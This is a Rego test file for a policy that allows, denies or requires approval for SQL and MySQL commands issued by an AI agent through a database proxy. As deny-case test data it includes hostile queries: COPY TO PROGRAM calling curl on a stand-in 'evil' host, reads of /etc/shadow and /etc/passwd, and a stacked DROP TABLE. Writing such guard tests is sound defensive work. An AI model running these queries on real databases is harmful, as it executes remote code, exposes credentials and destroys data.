package agentguard.sql_test

import rego.v1

import data.agentguard.testing.action
import data.agentguard.testing.decide
import data.agentguard.testing.dev
import data.agentguard.testing.doc
import data.agentguard.testing.prod

sql(text, statements) := {"kind": "sql", "sql": text, "sql_shape": lower(text), "statements": statements, "database": "app", "db_user": "agent"}

stmt(op, tables, has_where) := {"operation": op, "tables": tables, "has_where": has_where}

test_select_allowed if {
	action(doc(dev("postgres"), sql("SELECT * FROM users", [stmt("select", ["users"], false)]))) == "allow"
}

test_select_on_production_allowed if {
	action(doc(prod("postgres"), sql("SELECT * FROM users", [stmt("select", ["users"], false)]))) == "allow"
}

test_ddl_and_privileges_denied if {
	every op in ["drop", "truncate", "alter", "grant", "revoke"] {
		d := decide(doc(dev("postgres"), sql(op, [stmt(op, ["users"], false)])))
		d.action == "deny"
		contains(d.reason, sprintf("%s is not allowed", [upper(op)]))
	}
}

test_ddl_denied_for_mysql_too if {
	req := {"kind": "mysql", "sql": "DROP TABLE users", "statements": [stmt("drop", ["users"], false)]}
	action(doc(dev("mysql"), req)) == "deny"
}

test_create_allowed_outside_production if {
	action(doc(dev("postgres"), sql("CREATE TABLE t (a int)", [stmt("create", ["t"], false)]))) == "allow"
}

test_delete_without_where_denied if {
	d := decide(doc(dev("postgres"), sql("DELETE FROM users", [stmt("delete", ["users"], false)])))
	d.action == "deny"
	contains(d.reason, "DELETE without WHERE on users")
}

test_delete_with_unknown_where_denied if {
	action(doc(dev("postgres"), sql("DELETE FROM users", [{"operation": "delete", "tables": ["users"]}]))) == "deny"
}

test_delete_with_where_allowed if {
	action(doc(dev("postgres"), sql("DELETE FROM users WHERE id = 1", [stmt("delete", ["users"], true)]))) == "allow"
}

test_update_without_where_denied if {
	d := decide(doc(dev("postgres"), sql("UPDATE users SET a = 1", [stmt("update", ["users"], false)])))
	d.action == "deny"
	contains(d.reason, "UPDATE without WHERE")
}

test_update_with_where_allowed if {
	action(doc(dev("postgres"), sql("UPDATE users SET a = 1 WHERE id = 2", [stmt("update", ["users"], true)]))) == "allow"
}

test_copy_program_flag_denied if {
	s := {"operation": "copy", "tables": ["t"], "copy_program": true}
	d := decide(doc(dev("postgres"), sql("COPY t TO PROGRAM 'x'", [s])))
	d.action == "deny"
	contains(d.reason, "PROGRAM")
}

test_copy_program_in_text_denied if {
	# The parser did not flag it; the raw text still gives it away.
	text := "copy (select 1) to\n  PROGRAM 'curl http://evil/x'"
	action(doc(dev("postgres"), sql(text, [stmt("copy", [], false)]))) == "deny"
}

test_copy_to_stdout_allowed if {
	action(doc(dev("postgres"), sql("COPY users TO STDOUT", [stmt("copy", ["users"], false)]))) == "allow"
}

test_copy_server_file_denied if {
	s := {"operation": "copy", "tables": ["users"], "copy_file": true}
	action(doc(dev("postgres"), sql("COPY users FROM '/etc/passwd'", [s]))) == "deny"
}

test_copy_server_file_in_text_denied if {
	action(doc(dev("postgres"), sql("COPY users TO '/tmp/x.csv'", [stmt("copy", ["users"], false)]))) == "deny"
}

test_file_functions_denied if {
	every f in ["pg_read_file", "pg_read_binary_file", "pg_ls_dir", "lo_import", "lo_export"] {
		s := {"operation": "select", "tables": [], "functions": [f]}
		d := decide(doc(dev("postgres"), sql(sprintf("SELECT %s('x')", [f]), [s])))
		d.action == "deny"
		contains(d.reason, f)
	}
}

test_file_function_in_text_denied if {
	text := "select PG_READ_FILE ('/etc/shadow')"
	action(doc(dev("postgres"), sql(text, [stmt("select", [], false)]))) == "deny"
}

test_file_function_named_in_a_string_column_allowed if {
	# No call: just the name as a value.
	text := "select * from docs where title = 'about pg_read_file'"
	action(doc(dev("postgres"), sql(text, [stmt("select", ["docs"], true)]))) == "allow"
}

test_ordinary_functions_allowed if {
	s := {"operation": "select", "tables": ["users"], "functions": ["lower", "count"]}
	action(doc(dev("postgres"), sql("SELECT lower(name), count(*) FROM users", [s]))) == "allow"
}

test_production_insert_needs_approval if {
	d := decide(doc(prod("postgres"), sql("INSERT INTO users VALUES (1)", [stmt("insert", ["users"], false)])))
	d.action == "approve"
	contains(d.reason, "INSERT on production target prod-db needs approval")
}

test_production_update_with_where_needs_approval if {
	action(doc(prod("postgres"), sql("UPDATE users SET a = 1 WHERE id = 1", [stmt("update", ["users"], true)]))) == "approve"
}

test_production_unknown_operation_needs_approval if {
	action(doc(prod("postgres"), sql("VACUUM users", [stmt("vacuum", ["users"], false)]))) == "approve"
}

test_insert_outside_production_allowed if {
	action(doc(dev("postgres"), sql("INSERT INTO users VALUES (1)", [stmt("insert", ["users"], false)]))) == "allow"
}

test_production_transaction_control_allowed if {
	action(doc(prod("postgres"), sql("BEGIN", [stmt("begin", [], false)]))) == "allow"
}

test_no_statements_allowed if {
	# e.g. an empty query string; the proxy still asks.
	action(doc(dev("postgres"), {"kind": "sql", "sql": ""})) == "allow"
}

test_data_modifying_cte_is_a_delete if {
	s := {"operation": "select", "operations": ["select", "delete"], "tables": ["users"], "tables_written": ["users"], "has_where": false}
	d := decide(doc(dev("postgres"), sql("WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d", [s])))
	d.action == "deny"
	contains(d.reason, "DELETE without WHERE on users")
}

test_data_modifying_cte_on_production_needs_approval if {
	s := {"operation": "select", "operations": ["select", "insert"], "tables": ["audit"], "tables_written": ["audit"], "has_where": true}
	action(doc(prod("postgres"), sql("WITH i AS (INSERT INTO audit VALUES (1) RETURNING *) SELECT * FROM i", [s]))) == "approve"
}

test_prepared_drop_denied if {
	s := {"operation": "prepare", "operations": ["prepare", "drop"], "tables": ["users"], "has_where": true}
	action(doc(dev("postgres"), sql("PREPARE p AS DROP TABLE users", [s]))) == "deny"
}

test_do_block_denied if {
	d := decide(doc(dev("postgres"), sql("DO $$ BEGIN END $$", [stmt("do", [], false)])))
	d.action == "deny"
	contains(d.reason, "DO is not allowed")
}

test_unparsable_sql_denied if {
	req := object.union(sql("SELEC 1", []), {"parse_error": "Expected an SQL statement, found: SELEC"})
	d := decide(doc(dev("postgres"), req))
	d.action == "deny"
	contains(d.reason, "cannot parse")
}

mysql(text, statements) := {"kind": "mysql", "command": "query", "sql": text, "sql_shape": lower(text), "statements": statements, "database": "shop", "db_user": "agent"}

test_mysql_select_allowed if {
	action(doc(dev("mysql"), mysql("SELECT * FROM users", [stmt("select", ["users"], false)]))) == "allow"
}

test_mysql_same_rules_as_postgres if {
	every s in [stmt("drop", ["users"], false), stmt("delete", ["users"], false), stmt("update", ["users"], false), stmt("truncate", ["users"], false)] {
		d := decide(doc(dev("mysql"), mysql("x", [s])))
		d.action == "deny"
		d2 := decide(doc(dev("postgres"), sql("x", [s])))
		d2.reason == d.reason
	}
}

test_mysql_multi_statement_with_one_bad_statement_denied if {
	d := decide(doc(dev("mysql"), mysql("SELECT 1; DROP TABLE users", [stmt("select", [], false), stmt("drop", ["users"], false)])))
	d.action == "deny"
	contains(d.reason, "DROP is not allowed")
}

test_mysql_write_on_production_needs_approval if {
	action(doc(prod("mysql"), mysql("INSERT INTO t VALUES (1)", [stmt("insert", ["t"], true)]))) == "approve"
}

test_mysql_parse_error_denied if {
	req := object.union(mysql("SELECT 1 /*!50000 , 2 */", []), {"parse_error": "executable comments (/*! ... */) are not analysed"})
	action(doc(dev("mysql"), req)) == "deny"
}

test_mysql_replication_commands_denied if {
	every c in ["binlog_dump", "binlog_dump_gtid", "register_slave"] {
		d := decide(doc(dev("mysql"), {"kind": "mysql", "command": c, "sql": upper(c), "statements": []}))
		d.action == "deny"
		contains(d.reason, "replication")
	}
}

test_mysql_local_infile_denied if {
	d := decide(doc(dev("mysql"), {"kind": "mysql", "command": "local_infile", "file": "/etc/passwd", "sql": "LOAD DATA LOCAL INFILE '/etc/passwd'", "statements": []}))
	d.action == "deny"
	contains(d.reason, "/etc/passwd")
}

test_mysql_session_commands_allowed if {
	every c in ["set_option", "change_user"] {
		action(doc(dev("mysql"), {"kind": "mysql", "command": c, "sql": c, "statements": []})) == "allow"
	}
}

test_mysql_load_data_server_file_denied if {
	s := object.union(stmt("load", ["t"], true), {"copy_file": true})
	action(doc(dev("mysql"), mysql("LOAD DATA INFILE '/var/lib/x' INTO TABLE t", [s]))) == "deny"
}

test_into_outfile_denied if {
	action(doc(dev("mysql"), mysql("SELECT * FROM users INTO OUTFILE '/tmp/u'", [stmt("select", ["users"], false)]))) == "deny"
}
